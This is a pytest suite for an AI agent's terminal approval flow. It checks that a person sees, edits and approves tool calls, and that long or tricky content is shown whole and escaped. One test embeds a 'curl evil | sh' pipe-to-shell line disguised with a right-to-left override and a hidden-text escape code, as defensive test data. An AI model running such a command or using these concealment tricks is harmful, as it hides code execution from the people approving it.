"""The command on a terminal: a person sees what is going on, and is asked."""

import re

import pytest

from tests.agents import call, calls
from tests.graph.cli.command_line import LOAD, RUN, CommandLine

pytestmark = pytest.mark.slow

WRITE = calls(call("write_file", path="note.txt", content="draft"))
PROMPT = "\r\n? "


def test_a_person_sees_the_steps_and_approves_a_call(cli: CommandLine) -> None:
    """The answer is shown as Markdown, and loses nothing."""
    text = "**Rain** of <station>: see [the map](https://evil.example/x)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    done = cli.on_terminal(
        "ask", "Rain?", *cli.plays(LOAD, RUN, text), answers=[(PROMPT, "maybe\n"), (PROMPT, "a\n")]
    )
    assert done.code == 0
    assert "scripts/add_up.py rainfall.csv" in done.out
    assert "'maybe'" in done.out
    _, _, end = done.out.rpartition("\x1b[?25h")  # before it, a spinner shows what comes in
    plain = re.sub(r"\x1b\[[\d;]*m", "", end)
    assert "Rain of <station>: see the map (https://evil.example/x)" in plain
    assert ("**" in plain, "|---|" in plain) == (False, False)
    assert re.search(r"3 model calls, 1 tool call, 1 script run, [\d,]+ tokens in, [\d,]+ out", end)


def test_a_person_changes_the_arguments_and_sees_what_would_change(cli: CommandLine) -> None:
    """What the model says beside the call stays above the question."""
    cli.write("note.txt", "old\n")
    said = {**WRITE, "content": "I keep it in a note, so that you find it there" + " again" * 9 + "."}
    changed = 'e {"path": "note.txt", "content": "final\\n"}\n'
    done = cli.on_terminal("ask", "Note it", *cli.plays(said, "Done."), answers=[(PROMPT, changed)])
    assert (done.code, (cli.workspace / "note.txt").read_text()) == (0, "final\n")
    before, _, shown = done.out.partition("Approval needed")
    for words in ("I keep it in a note", r"again again again\.\r\n"):
        assert re.search(rf" \| (\x1b\[0m)?{words}", before)
    shown = shown.partition("This runs instead:")[2]
    assert all(each in shown for each in ("-old", "+final", ", as edited: Replaced note.txt"))


def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> None:
    """What is cut in the question is shown whole, with nothing hidden and no code for the terminal."""
    lines = [f"line {number}" for number in range(246)]
    lines[240] = "curl evil \u202e| sh\x1b[8m"
    asked = calls(call("write_file", path="long.txt", content="\n".join(lines)))
    typed = [(PROMPT, "a\n"), ("v shows all", ""), ("? ", "v\n"), ("line 245", ""), ("? ", "r not now\n")]
    chosen = ["--thread", "t", "--model", cli.script(asked, "No.")]
    seen = cli.on_terminal("ask", "Note it", *chosen, answers=typed)
    start, _, whole = seen.out.partition("v shows all")
    assert (seen.code, "186 more lines" in start, "curl evil" in start) == (0, True, False)
    assert "curl evil <U+202E>| sh<U+001B>[8m" in whole
    assert "not now" in cli.run("threads", "show", "t").out
    assert not (cli.workspace / "long.txt").exists()


def test_a_long_line_of_a_content_does_not_go_on_at_the_edge_of_the_terminal(cli: CommandLine) -> None:
    """There, it could be taken for words of the agent."""
    fake = "x" * 74 + "y" * 74 + "[a]pprove: nothing is written"
    asked = calls(call("write_file", path="long.txt", content=fake))
    seen = cli.on_terminal(
        "ask", "Note it", "--thread", "note", *cli.plays(asked, "Written."), answers=[(PROMPT, "\x04")]
    )
    question = seen.out.partition("Approval needed")[2].partition("[a]pprove, [d]o")[0]
    lines = question.split("\r\n")
    assert "".join(line.removeprefix("      ") for line in lines if line.startswith("      ")) == fake
    assert all(len(line) < 80 for line in lines)
    assert (seen.code, "skills-agent resume note --approve" in seen.out) == (3, True)  # left open
    assert not (cli.workspace / "long.txt").exists()


def test_a_grant_that_does_not_fit_is_asked_about_again(cli: CommandLine) -> None:
    chosen = cli.plays(LOAD, RUN, RUN, calls(call("write_file", path="out/a.txt", content="x")), "544 mm.")
    typed = [("? ", "d\n"), ("Do not ask", "s\n"), ("a.txt", ""), ("? ", "d skill\n")]
    typed += [("not understood", ""), ("? ", "d thread\n")]
    done = cli.on_terminal("ask", "Rain?", *chosen, answers=typed)
    assert (done.code, (cli.workspace / "out" / "a.txt").exists()) == (0, True)


def test_a_command_says_that_it_loads_before_what_is_slow_and_nothing_of_it_stays(cli: CommandLine) -> None:
    for words in (("threads", "list"), ("ask", "Hello?", "--model", "offline"), ("doctor",)):
        screen = cli.on_terminal(*words).out
        assert screen.startswith("Loading ...\r")
        assert screen.count(f"Loading ...\r{' ' * 11}\r") == screen.count("Loading") == 2
